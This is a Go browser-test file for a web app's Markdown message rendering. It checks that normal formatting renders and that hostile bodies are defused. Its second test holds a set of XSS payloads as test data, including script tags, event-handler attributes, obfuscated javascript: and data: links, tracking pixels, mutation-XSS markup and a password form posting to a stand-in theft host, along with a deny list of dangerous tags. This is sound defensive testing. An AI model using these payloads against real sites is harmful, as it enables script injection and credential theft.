package web_test

// Browser tests of Markdown bodies: rendered, and hostile bodies defused.

import (
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

// TestUIMarkdown: the quick start's Markdown renders; links go to http(s)
// only and open in a new tab without a referrer.
func TestUIMarkdown(t *testing.T) {
	e, b, _ := setup(t)
	tok := e.token(adaEmail, adaPassword)
	_, webhook := e.channel(tok, "Backups")
	body := "Backup of **42 GB** done in *3 min*.\n\n- `/var` ok\n- `/home` ok\n\n[Report](https://backup.example.com/r/1)"
	id := e.send(webhook, map[string]any{"title": "Backup done", "body": body})
	b.signIn(adaEmail, adaPassword)
	b.openView("messages")
	b.waitFor("the message", shownJS(articleSel(id))+" && "+loaded())
	type rendered struct {
		Strong, Em string
		Items      int
		Code       int
		Href       string
		Rel        string
		Target     string
	}
	got := eval[rendered](b, `((a) => { const q = (s) => a.querySelector(".message-body " + s); return {
		Strong: q("strong") ? q("strong").textContent : "", Em: q("em") ? q("em").textContent : "",
		Items: a.querySelectorAll(".message-body li").length, Code: a.querySelectorAll(".message-body code").length,
		Href: q("a") ? q("a").getAttribute("href") : "", Rel: q("a") ? q("a").rel : "", Target: q("a") ? q("a").target : ""}; })(`+articleJS(id)+`)`)
	want := rendered{Strong: "42 GB", Em: "3 min", Items: 2, Code: 2, Href: "https://backup.example.com/r/1", Rel: "noopener noreferrer nofollow", Target: "_blank"}
	if got != want {
		t.Errorf("rendered %+v, want %+v", got, want)
	}
	if stored := e.apiMessage(tok, id); stored["body"] != body {
		t.Errorf("stored body %q, want it as sent", stored["body"])
	}
	mustErrorEmpty(b)
}

// TestUIMarkdownHostile: scripts, event handlers, javascript: and data:
// URLs and remote images never reach the DOM, whatever the body tries;
// the server keeps the body as sent.
func TestUIMarkdownHostile(t *testing.T) {
	var pixelHits atomic.Int32
	pixel := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		pixelHits.Add(1)
		w.Header().Set("Content-Type", "image/gif")
		_, _ = w.Write([]byte("GIF89a"))
	}))
	t.Cleanup(pixel.Close)
	e, b, _ := setup(t)
	tok := e.token(adaEmail, adaPassword)
	_, webhook := e.channel(tok, "Hostile")
	bodies := map[string]string{
		"script":         "<script>window.pwned = 'script'</script>hello",
		"img onerror":    `<img src="x" onerror="window.pwned='img'">`,
		"svg onload":     `<svg onload="window.pwned='svg'"><circle r="5"/></svg>`,
		"iframe":         `<iframe src="javascript:window.parent.pwned='iframe'"></iframe>`,
		"md javascript":  "[click me](javascript:window.pwned='link')",
		"md js entity":   "[click me](&#106;avascript:window.pwned='entity')",
		"md js spaced":   "[click me]( JaVaScRiPt:window.pwned='spaced')",
		"md data":        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"html a js":      `<a href="javascript:window.pwned='a'">click me</a>`,
		"remote image":   "![tracker](" + pixel.URL + "/pixel.gif)",
		"remote ref img": "![tracker][p]\n\n[p]: " + pixel.URL + "/ref.gif",
		"autolink js":    "<javascript:window.pwned='autolink'>",
		"style":          `<style>body{display:none}</style><div style="background:url(` + pixel.URL + `/css.gif)">x</div>`,
		"form":           `<form action="https://evil.example/steal"><input name="password"></form>`,
		"details toggle": `<details open ontoggle="window.pwned='toggle'"><summary>x</summary></details>`,
		"math":           `<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='math'">`,
	}
	ids := map[string]string{}
	for name, body := range bodies {
		ids[name] = e.send(webhook, map[string]any{"title": name, "body": body})
	}
	b.signIn(adaEmail, adaPassword)
	b.openView("messages")
	b.waitFor("every hostile message", `document.querySelectorAll("#messages article.message").length === `+strconv.Itoa(len(bodies))+` && `+loaded())
	// Click every link in the bodies: none may run script.
	eval[bool](b, `(() => { for (const a of document.querySelectorAll(".message-body a")) { a.removeAttribute("target"); a.addEventListener("click", (e) => e.preventDefault()); a.click(); } return true; })()`)
	type found struct {
		Bad   []string `json:"bad"`
		Pwned string   `json:"pwned"`
		Links []string `json:"links"`
	}
	got := eval[found](b, `(() => {
		const bad = [];
		for (const n of document.querySelectorAll(".message-body *")) {
			const tag = n.tagName.toLowerCase();
			if (["script", "img", "iframe", "svg", "math", "style", "form", "object", "embed", "details", "link", "meta"].includes(tag)) bad.push(tag);
			for (const at of n.attributes) {
				if (at.name.startsWith("on") || at.name === "style" || at.name === "src" || at.name === "srcset" || at.name === "action") bad.push(tag + "[" + at.name + "]");
				if (/^\s*(javascript|data|vbscript):/i.test(at.value)) bad.push(tag + "[" + at.name + "=" + at.value + "]");
			}
		}
		return {bad, pwned: typeof window.pwned === "undefined" ? "" : String(window.pwned),
			links: Array.from(document.querySelectorAll(".message-body a")).map(a => a.getAttribute("href"))};
	})()`)
	if len(got.Bad) != 0 {
		t.Errorf("dangerous markup reached the DOM: %q", got.Bad)
	}
	if got.Pwned != "" {
		t.Errorf("window.pwned = %q: a hostile body ran script", got.Pwned)
	}
	for _, href := range got.Links {
		if !strings.HasPrefix(href, "https://") && !strings.HasPrefix(href, "http://") && !strings.HasPrefix(href, "mailto:") {
			t.Errorf("a link to %q", href)
		}
	}
	if n := pixelHits.Load(); n != 0 {
		t.Errorf("the remote image server was asked %d times; remote images must never load", n)
	}
	// What the person sees: the raw HTML as text, the image as its alt text.
	if got := b.text(articleSel(ids["script"]) + " .message-body"); !strings.Contains(got, "<script>") {
		t.Errorf("the script body shows %q, want the tag as text", got)
	}
	if got := b.text(articleSel(ids["remote image"]) + " .message-body"); got != "[tracker]" {
		t.Errorf("the remote image shows %q, want its alt text [tracker]", got)
	}
	if got := b.text(articleSel(ids["md javascript"]) + " .message-body"); got != "click me" {
		t.Errorf("the javascript: link shows %q, want its text only", got)
	}
	for name, id := range ids {
		if stored := e.apiMessage(tok, id); stored["body"] != bodies[name] {
			t.Errorf("%s: stored body %q, want it as sent", name, stored["body"])
		}
	}
}
